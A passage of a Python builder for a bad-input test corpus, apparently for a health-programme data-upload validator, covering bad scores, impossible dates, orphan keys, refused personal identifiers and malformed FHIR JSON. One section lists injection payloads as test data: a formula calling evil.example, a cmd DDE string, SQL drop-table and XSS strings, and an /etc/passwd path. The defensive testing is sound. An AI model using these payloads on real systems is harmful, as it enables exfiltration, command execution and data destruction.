             ("three", r"not an item score"), ("NaN", r"not an item score"), ("inf", r"not an item score"),
             ("-inf", r"not an item score"), ("4", r"outside the range"), ("2,5", r"not an item score"),
             ("1e3", r"outside the range"), ("99999999999999999999", r"outside the range")]
for _val, _why in _ITEM_BAD:
    _cell = f'"{_val}"' if "," in _val else _val
    rows(f"measures-item-{_val}".replace(".", "_").replace(",", "comma"), "measures.csv",
         csv_text(MEAS_H, [*meas_rows(3), f"N0003,P-N1,epds,2025-04-01,{_cell},1,0,0,1,2,0,1,0,0,"]),
         "numbers", {"measures": (3, 1)}, _why)
rows("measures-total-only", "measures.csv", csv_text(MEAS_H, [*meas_rows(2), "N0004,P-N1,epds,2025-04-02" + "," * 11 + "12"]),
     "numbers", {"measures": (3, 0)})
rows("measures-total-out-of-range", "measures.csv",
     csv_text(MEAS_H, [*meas_rows(2), "N0004,P-N1,epds,2025-04-02" + "," * 11 + "1e308"]), "numbers",
     {"measures": (2, 1)}, r"total|range")
rows("measures-items-beyond-instrument", "measures.csv",
     csv_text(MEAS_H + ",item_11,item_20", [r + ",," for r in meas_rows(2)] + ["N0004,P-N1,epds,2025-04-02,1,1,1,1,1,1,1,1,1,1,,3,1e308"]),
     "numbers", {"measures": (2, 1)}, r"item")
rows("contacts-duration-negative", "contacts.csv",
     csv_text(CONT_H, [*cont_rows(3), "P-N2,N0007,2025-04-01,telephone,attended,-30"]), "numbers",
     {"contacts": (3, 1)}, r"below the minimum")
rows("contacts-duration-huge", "contacts.csv",
     csv_text(CONT_H, [*cont_rows(3), "P-N2,N0007,2025-04-01,telephone,attended,1e300"]), "numbers",
     {"contacts": (3, 1)}, r"above the maximum")

# ---- J. dates: impossible, ambiguous, out of range, future
_DATES_BAD = [
    ("31/02/2025", r"not a date"), ("29/02/2025", r"not a date"), ("2025-02-30", r"not a date"),
    ("2025-13-01", r"not a date"), ("00/00/0000", r"not a date"), ("0000-00-00", r"not a date"),
    ("2600-01-01", r"not a date|after today"), ("1500-01-01", r"not a date"), ("10000-01-01", r"not a date"),
    ("2099-01-01", r"after today"), ("yesterday", r"not a date"), ("12345", r"not a date"), ("20250304", r"not a date"),
    ("12:30", r"not a date"), ("2025/01/02", r"not a date"), ("1/2/3/4", r"not a date"),
]
for _val, _why in _DATES_BAD:
    rows(f"date-{_val}".replace("/", "-").replace(":", "h"), "participants.csv",
         csv_text(PART_H, [*part_rows(3), f"N1099,P-N1,{_val},self,5,2"]), "dates", {"participants": (3, 1)}, _why)
rows("date-ambiguous", "participants.csv",
     csv_text(PART_H, ["N1001,P-N1,03/04/2025,self,1,1", "N1002,P-N1,05/05/2025,self,1,1", "N1003,P-N1,2025-01-07,self,1,1"]),
     "dates", {"participants": (2, 1)}, r"ambiguous|could be")
rows("date-uk-resolves-ambiguity", "participants.csv",
     csv_text(PART_H, ["N1001,P-N1,03/04/2025,self,1,1", "N1002,P-N1,25/01/2025,self,1,1"]), "dates",
     {"participants": (2, 0)})
rows("date-us-and-uk-mixed", "participants.csv",
     csv_text(PART_H, ["N1001,P-N1,03/04/2025,self,1,1", "N1002,P-N1,25/01/2025,self,1,1",
                       "N1003,P-N1,01/25/2025,self,1,1"]), "dates", {"participants": (2, 1)}, r"could be",
     note="each unambiguous date is read by its own evidence; only 03/04/2025 is refused")
rows("date-month-words", "participants.csv",
     csv_text(PART_H, ["N1001,P-N1,4 March 2025,self,1,1", "N1002,P-N1,04-Mar-2025,self,1,1",
                       'N1003,P-N1,"March 4, 2025",self,1,1', "N1004,P-N1,45720,self,1,1"]), "dates",
     {"participants": (4, 0)}, note="month names are never ambiguous; 45720 is Excel's number for 4 March 2025")
rows("date-leap-day-ok", "participants.csv", csv_text(PART_H, ["N1001,P-N1,29/02/2024,self,1,1"]), "dates",
     {"participants": (1, 0)})
rows("date-iso-with-time", "measures.csv",
     csv_text(MEAS_H, [r.replace("2025-02-01", "2025-02-01T10:30:00Z") for r in meas_rows(2)]), "dates",
     {"measures": (2, 0)})
rows("date-end-before-referral", "participants.csv",
     csv_text(PART_H + ",end_date", [*(r + ",2025-06-01" for r in part_rows(2)), "N1099,P-N1,2025-05-05,self,1,1,2025-01-01"]),
     "dates", {"participants": (2, 1)}, r"before")

# ---- K. keys: duplicates, orphans, unknown codes, other providers
rows("duplicate-participant-ids", "participants.csv", csv_text(PART_H, [*part_rows(3), part_rows(1)[0]]), "keys",
     {"participants": (2, 2)}, r"as other rows|more than one row")
rows("duplicate-measure-keys", "measures.csv", csv_text(MEAS_H, [*meas_rows(3), meas_rows(1)[0]]), "keys",
     {"measures": (2, 2)}, r"as other rows|more than one row")
rows("duplicate-programme-ids", "programmes.csv", csv_text(PROG_H, [*prog_rows(2), prog_rows(1)[0]]), "keys",
     {"programmes": (1, 2)}, r"as other rows|more than one row")
rows("participant-moves-programme", "participants.csv", csv_text(PART_H, [*part_rows(2), "N0001,P-N2,2025-01-01,self,1,1"]),
     "keys", {"participants": (2, 1)}, r"programme")
rows("orphan-participant-programme", "participants.csv", csv_text(PART_H, [*part_rows(2), "N1099,P-XX,2025-01-01,self,1,1"]),
     "orphans", {"participants": (2, 1)}, r"P-XX")
rows("orphan-measure-participant", "measures.csv",
     csv_text(MEAS_H, [*meas_rows(2), "N7777,P-N1,epds,2025-04-01,1,1,1,1,1,1,1,1,1,1,"]), "orphans",
     {"measures": (2, 1)}, r"N7777|participant")
rows("orphan-contact-participant", "contacts.csv", csv_text(CONT_H, [*cont_rows(2), "P-N2,N8888,2025-04-01,telephone,attended,30"]),
     "orphans", {"contacts": (2, 1)}, r"N8888|participant")
rows("orphan-contact-group-session", "contacts.csv",
     csv_text(CONT_H + ",group_session_id", [*(r + "," for r in cont_rows(2)),
                                             "P-N1,N0001,2025-02-01,group_session,attended,90,GS-NOPE"]),
     "orphans", {"contacts": (2, 1)}, r"GS-NOPE|group")
rows("workbook-all-tables-with-orphans", "upload.xlsx",
     lambda p: p.write_bytes(_xlsx({
         "programmes": _grid(PROG_H, prog_rows(1)),
         "participants": _grid(PART_H, [*part_rows(2), "N1099,P-N7,2025-01-01,self,1,1"]),
         "contacts": _grid(CONT_H, [*cont_rows(2), "P-N2,N5555,2025-04-01,telephone,attended,30"]),
         "measures": _grid(MEAS_H, [*meas_rows(2), "N6666,P-N1,epds,2025-04-01,1,1,1,1,1,1,1,1,1,1,"]),
     })), "orphans", {"programmes": (1, 0), "participants": (2, 1), "contacts": (2, 1), "measures": (2, 1)},
     r"N5555|N6666|P-N7|participant|programme")
rows("unknown-instrument", "measures.csv", csv_text(MEAS_H, [*meas_rows(2), "N0004,P-N1,zzz,2025-04-01,1,1,1,1,1,1,1,1,1,1,"]),
     "codes", {"measures": (2, 1)}, r"zzz|instrument")
rows("unknown-instrument-lookalike", "measures.csv",
     csv_text(MEAS_H, [*meas_rows(2), "N0004,P-N1,epds-2,2025-04-01,1,1,1,1,1,1,1,1,1,1,"]), "codes",
     {"measures": (2, 1)}, r"instrument")
rows("instrument-case-and-spaces", "measures.csv", csv_text(MEAS_H, [r.replace(",epds,", ", EPDS ,") for r in meas_rows(2)]),
     "codes", {"measures": (2, 0)})
rows("unknown-code", "participants.csv", csv_text(PART_H, [*part_rows(2), "N1099,P-N1,2025-01-01,aliens,1,1"]), "codes",
     {"participants": (2, 1)}, r"aliens")
rows("contact-unknown-status", "contacts.csv", csv_text(CONT_H, [*cont_rows(2), "P-N2,N0007,2025-04-01,telephone,maybe,30"]),
     "codes", {"contacts": (2, 1)}, r"maybe")
rows("other-providers-programme", "participants.csv", csv_text(PART_H, [*part_rows(2), "N1099,P-S1,2025-01-01,self,1,1"]),
     "providers", {"participants": (2, 1)}, r"P-S1", note="another provider's programme is unknown to North; "
     "nothing may say whose it is")
_add("programme-naming-other-provider", "programmes.csv",
     csv_text(PROG_H, ["P-N3,Sneaky,South,group,in_person,volunteer_peers,x"]), "providers", "refuse",
     message=r"naming another provider.*Nothing was stored")

# ---- L. identifiers (refused whole)
for _slug, _header, _value in (("nhs-number-column", "NHS number", "943 476 5919"), ("name-column", "Full name", "Jane Doe"),
                               ("email-column", "Email", "jane@example.org"), ("dob-column", "Date of birth", "1990-01-01"),
                               ("postcode-column", "Postcode", "SW1A 1AA"), ("phone-column", "Mobile", "07700 900123")):
    _add(_slug, "participants.csv", csv_text(PART_H + f",{_header}", [r + f",{_value}" for r in part_rows(3)]),
         "identifiers", "refuse", message=r"identif|Nothing was stored")
_add("nhs-numbers-as-ids", "participants.csv",
     csv_text(PART_H, [f"{nhs},P-N1,2025-01-0{i + 1},self,1,1" for i, nhs in enumerate(("9434765919", "4010232137", "9876543210"))]),
     "identifiers", "refuse", message=r"NHS|identif")
_add("emails-as-values", "programmes.csv",
     csv_text(PROG_H, ["P-N3,Group,North,group,in_person,volunteer_peers,jane@example.org",
                       "P-N4,Group,North,group,in_person,volunteer_peers,Ask at reception"]),
     "identifiers", "refuse", message=r"email|identif")

# ---- M. injection strings (stored as text; exported safely elsewhere)
rows("formula-strings", "programmes.csv",
     csv_text(PROG_H, ['P-N3,=HYPERLINK("http://evil.example/?x="&A1),North,group,in_person,volunteer_peers,@SUM(1+1)',
                       "P-N4,+cmd|' /C calc'!A0,North,group,in_person,volunteer_peers,-2+3",
                       'P-N5,"\tTAB=1",North,group,in_person,volunteer_peers,"\r=1"']),
     "injection", {"programmes": (3, 0)})
rows("sql-strings", "programmes.csv",
     csv_text(PROG_H, ["P-N3,'); DROP TABLE participants;--,North,group,in_person,volunteer_peers,1' OR '1'='1",
                       'P-N4,"Robert""); DELETE FROM uploads; --",North,group,in_person,volunteer_peers,x']),
     "injection", {"programmes": (2, 0)})
rows("html-strings", "programmes.csv",
     csv_text(PROG_H, ["P-N3,<script>alert(1)</script>,North,group,in_person,volunteer_peers,<img src=x onerror=alert(1)>"]),
     "injection", {"programmes": (1, 0)})
rows("injection-in-ids", "participants.csv",
     csv_text(PART_H, ['=HYPERLINK("x"),P-N1,2025-01-01,self,1,1', "'; DROP TABLE x;--,P-N1,2025-01-02,self,1,1",
                       "-1+1,P-N1,2025-01-03,self,1,1"]), "injection", {"participants": (3, 0)})
rows("path-in-values", "programmes.csv",
     csv_text(PROG_H, ["P-N3,../../../etc/passwd,North,group,in_person,volunteer_peers,C:\\Windows\\system32"]),
     "injection", {"programmes": (1, 0)})

# ---- N. FHIR JSON
rows("fhir-without-programme", "measures.json", json.dumps([_fhir(_epds_items([1, 0, 1, 0, 1, 0, 1, 0, 1, 0]))]),
     "fhir", {"measures": (0, 1)}, r"programme_id", note="FHIR needs a mapping naming the programme")
rows("fhir-unknown-questionnaire", "measures.json",
     json.dumps([_fhir(_epds_items([1] * 10)), _fhir(_epds_items([1] * 10), questionnaire="http://x/q/unknown",
                                                     authored="2025-02-02")]), "fhir", {"measures": (0, 2)},
     r"programme_id")
rows("fhir-out-of-range", "measures.json",
     json.dumps([_fhir(_epds_items([9, 1e308, -1, 1.5, 1, 1, 1, 1, 1, 1]))]), "fhir", {"measures": (0, 1)},
     r"programme_id")
reject("fhir-item-not-a-list", "measures.json", json.dumps(_fhir(5)), "fhir", r"shape evalkit cannot read as FHIR")
reject("fhir-answer-not-a-list", "measures.json", json.dumps(_fhir([{"linkId": "1", "answer": 7}])), "fhir",
       r"shape evalkit cannot read as FHIR")
reject("fhir-bundle-entry-not-a-list", "measures.json", json.dumps({"resourceType": "Bundle", "entry": 5}), "fhir",
       r"shape evalkit cannot read as FHIR")
reject("fhir-ordinal-text", "measures.json", json.dumps(_fhir([{"linkId": "epds-1", "answer": [{"valueCoding": {
    "code": "x", "extension": [{"url": "http://hl7.org/fhir/StructureDefinition/ordinalValue", "valueDecimal": "abc"}]}}]}])),
       "fhir", r"shape evalkit cannot read as FHIR")
reject("json-nested-100k", "measures.json", _nested_json(100_000), "fhir", r"shape evalkit cannot read as FHIR")
reject("fhir-items-nested-3000", "measures.json",
       lambda p: p.write_text('{"resourceType":"QuestionnaireResponse","item":' + '[{"linkId":"x","item":' * 3000
                              + "[]" + "}]" * 3000 + "}"), "fhir", r"shape evalkit cannot read as FHIR")


def build(dest: str | Path) -> list[Case]:
    """Write every corpus file under ``dest`` (one folder per case) and return the cases, in order."""
    dest = Path(dest)
    out = []
    for case, write in _CASES:
        folder = dest / case.id
        folder.mkdir(parents=True, exist_ok=True)
        write(folder / case.file)
        out.append(case)
    return out


def cases() -> list[Case]:
    """The cases without writing any file."""
    return [c for c, _ in _CASES]


if __name__ == "__main__":  # pragma: no cover - a manual look at the corpus
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "badinput-corpus")
    made = build(target)
    with (target / "index.csv").open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["id", "file", "category", "expect", "message", "tables", "reason", "note"])
        for c in made:
            w.writerow([c.id, c.file, c.category, c.expect, c.message, json.dumps(dict(c.tables)), c.reason, c.note])
    print(f"wrote {len(made)} files to {target}")
